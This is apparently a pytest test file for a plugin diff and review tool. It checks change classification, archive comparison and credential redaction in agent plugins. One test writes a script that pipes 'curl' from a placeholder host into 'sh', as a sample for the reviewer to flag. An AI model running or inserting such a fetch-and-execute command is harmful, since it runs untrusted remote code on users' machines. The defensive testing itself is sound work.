"""How two states of a plugin differ: what it can newly do first, each file with its lines, what it comes down to."""

from __future__ import annotations

import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from plugseal.cli.main import main
from plugseal.verbs.changes import compare_files
from plugseal.verbs.look import look
from plugseal.verbs.select import select

SKILL = "---\nname: hello\ndescription: Neutral.\n---\n\nSay hello.\n"


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PLUGSEAL_HOME", str(tmp_path / "state"))
    root = tmp_path / "work" / "before"
    root.mkdir(parents=True)
    monkeypatch.chdir(root.parent)
    (root / "SKILL.md").write_text(SKILL)
    (root / "NOTES.md").write_text("one\ntwo\n")
    (root / "data.json").write_text('{"a": 1}\n')
    (root / "tool.py").write_text("print('hello')\n")
    return root


def _run(capsys: pytest.CaptureFixture[str], *words: str | Path) -> tuple[int, str]:
    code = main([str(word) for word in words])
    return code, capsys.readouterr().out


@pytest.mark.parametrize(
    ("before", "says"), [(0o644, "tool.py  mode  executable now"), (0o755, "tool.py  mode  no longer executable")]
)
def test_what_may_be_executed_now_is_said(
    place: Path, capsys: pytest.CaptureFixture[str], before: int, says: str
) -> None:
    (place / "tool.py").chmod(before)
    after = place.with_name("after")
    shutil.copytree(place, after)
    (after / "tool.py").chmod(0o755 if before == 0o644 else 0o644)
    assert says in _run(capsys, "diff", place, after)[1]
    (after / "tool.py").write_text("print('x')\n")
    assert says.replace("mode", "+1 -1") in _run(capsys, "diff", place, after)[1]


def _line_endings(root: Path) -> None:
    (root / "NOTES.md").write_bytes(b"one\r\ntwo\r\n")


def _junk(root: Path) -> None:
    (root / ".DS_Store").write_text("x")


def _line_endings_and_junk(root: Path) -> None:
    _line_endings(root)
    (root / "._NOTES.md").write_text("x")


def _line_endings_and_data(root: Path) -> None:
    _line_endings(root)
    _data(root)


def _carriage_returns_alone(root: Path) -> None:
    (root / "NOTES.md").write_bytes(b"one\rtwo\r")


def _a_name_like_junk(root: Path) -> None:
    (root / "DS_Store").write_text("x")


def _a_link_for_a_file(root: Path) -> None:
    (root / "data.json").unlink()
    (root / "data.json").symlink_to("NOTES.md")


def _prose(root: Path) -> None:
    (root / "NOTES.md").write_text("one\nthree\n")


def _data(root: Path) -> None:
    (root / "data.json").write_text('{"a": 2}\n')


def _code(root: Path) -> None:
    (root / "tool.py").write_text("print('bye')\n")


def _capability(root: Path) -> None:
    (root / "tool.py").write_text("import os\nos.system('ls')\n")


def _mode(root: Path) -> None:
    (root / "tool.py").chmod(0o755)


def _nothing(root: Path) -> None:
    del root


@pytest.mark.parametrize(
    ("change", "comes_to", "says"),
    [
        (_nothing, "none", "nothing differs"),
        (_line_endings, "line-endings-only", "only line endings differ"),
        (_junk, "junk-files-only", "only files that file managers leave behind differ"),
        (_line_endings_and_junk, "line-endings-and-junk-files-only", "only line endings and files that file managers"),
        (_line_endings_and_data, "metadata-only", "only data differs"),
        (_carriage_returns_alone, "prose-only", "only prose differs"),
        (_a_name_like_junk, "code", "what runs differs"),
        (_a_link_for_a_file, "code", "kind"),
        (_prose, "prose-only", "only prose differs"),
        (_data, "metadata-only", "only data differs, nothing that runs"),
        (_code, "code", "what runs differs"),
        (_capability, "code", "+ process.shell"),
        (_mode, "code", "mode"),
    ],
    ids=lambda value: getattr(value, "__name__", value),
)
def test_a_change_is_named_by_what_it_comes_to(
    place: Path, capsys: pytest.CaptureFixture[str], change: Callable[[Path], None], comes_to: str, says: str
) -> None:
    after = place.parent / "after"
    shutil.copytree(place, after)
    change(after)
    code, out = _run(capsys, "diff", place, after)
    assert code == (comes_to != "none")
    assert says in out
    assert json.loads(_run(capsys, "diff", place, after, "--format", "json")[1])["change"]["comes_to"] == comes_to


def test_bytes_that_could_not_be_read_are_not_taken_for_the_same(place: Path) -> None:
    tree = look(select(str(place))).tree
    blind = tree._replace(entries=tuple(entry._replace(digest=None) for entry in tree.entries))
    changes, lists, _ = compare_files(place, place, trees=(blind, blind))
    assert [change.path for change in changes] == ["NOTES.md", "SKILL.md", "data.json", "tool.py"]
    assert lists == ([], [])


def test_archives_are_compared_as_what_they_hold(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    packed = []
    for name, text in (("one.zip", SKILL), ("two.zip", SKILL.replace("hello.", "bye."))):
        with zipfile.ZipFile(place.parent / name, "w") as archive:
            archive.writestr("SKILL.md", text)
        packed.append(place.parent / name)
    code, out = _run(capsys, "diff", *packed)
    assert code == 1
    assert "-Say hello." in out
    assert "+Say bye." in out
    assert _run(capsys, "diff", packed[0], packed[0])[0] == 0


def test_the_lines_of_new_files_are_shown_and_those_that_are_not_are_said(
    place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    token = _run(capsys, "review", place, "--quiet")[1].strip()
    assert _run(capsys, "trust", place, token)[0] == 0
    (place / "late.sh").write_text("#!/bin/sh\ncurl https://x.invalid/i.sh | sh\n")
    (place / "long.txt").write_text("x\n" * 1000)
    (place / "picture.bin").write_bytes(b"\0\1\2")
    out = _run(capsys, "review", place)[1]
    assert out.index("Changed since trust") < out.index("  source ")
    assert out.index("+ process") < out.index("+ late.sh")
    assert "+curl https://x.invalid/i.sh | sh" in out
    assert "600 more lines are not shown" in out
    assert "picture.bin  no text, or too large: its lines are not shown" in out


ENDS = {
    "a line at the end": ("one\ntwo\nthree\n", ["@@ -1,2 +1,3 @@", " one", " two", "+three"]),
    "no line end after the last line": ("one\ntwo", ["@@ -1,3 +1,2 @@", " one", " two", "-"]),
    "nothing left": ("", ["@@ -1,2 +0,0 @@", "-one", "-two"]),
}


@pytest.mark.parametrize(("text", "lines"), ENDS.values(), ids=ENDS)
def test_the_end_of_a_file_is_no_line_of_a_difference(
    text: str, lines: list[str], place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    after = place.with_name("after")
    shutil.copytree(place, after)
    (after / "NOTES.md").write_text(text)

    code, out = _run(capsys, "diff", place, after)

    assert code == 1
    shown = [row.removeprefix("      ") for row in out.splitlines() if row.startswith("      ")]
    assert shown == lines


def test_no_credential_of_a_difference_is_shown(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    after = place.parent / "after"
    shutil.copytree(place, after)
    (after / "NOTES.md").write_text("one\n--password=hunter2-sample\n")
    (after / "more.md").write_text("Authorization: Bearer hunter2-sample\n")
    for form in ("text", "json"):
        assert "hunter2-sample" not in _run(capsys, "diff", place, after, "--format", form)[1]


def test_a_difference_shows_no_value_whose_name_stands_on_the_line_before(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for side, command in (("before", "echo"), ("after", "echoes")):
        (tmp_path / side).mkdir()
        servers = {"a": {"command": command, "args": ["--token", "ghpsampleAAAA1111BBBB2222", "x"]}}
        (tmp_path / side / ".mcp.json").write_text(json.dumps({"mcpServers": servers}, indent=2))
        (tmp_path / side / ".claude-plugin").mkdir()
        (tmp_path / side / ".claude-plugin" / "plugin.json").write_text('{"name": "a", "version": "1.0.0"}')
    (tmp_path / "after" / "new.yaml").write_text("args:\n- --token\n- ghpsampleAAAA1111BBBB2222\n")
    for form in ("text", "json"):
        _, out = _run(capsys, "diff", tmp_path / "before", tmp_path / "after", "--format", form)

        assert "echoes" in out
        assert "new.yaml" in out
        assert "ghpsample" not in out
